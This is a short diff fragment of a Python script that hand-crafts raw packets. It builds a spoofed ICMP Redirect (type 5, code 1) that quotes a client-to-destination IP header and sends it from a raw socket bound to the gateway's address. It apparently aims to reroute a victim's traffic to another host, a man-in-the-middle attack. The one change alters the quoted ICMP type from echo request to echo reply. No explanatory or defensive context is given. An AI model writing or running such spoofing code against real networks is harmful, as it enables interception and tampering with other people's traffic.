@@ -53,7 +53,7 @@ def checksum(data):
     return ~(total + (total >> 16)) & 0xFFFF
 head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28, 1, 0, 64, 1, 0, client, dst)
 head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
-body = struct.pack("!BBH4s", 5, 1, 0, better) + head + struct.pack("!BBHHH", 8, 0, 0, 1, 1)
+body = struct.pack("!BBH4s", 5, 1, 0, better) + head + struct.pack("!BBHHH", 0, 0, 0, 1, 1)
 body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
 one = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
 one.bind((socket.inet_ntoa(gateway), 0))
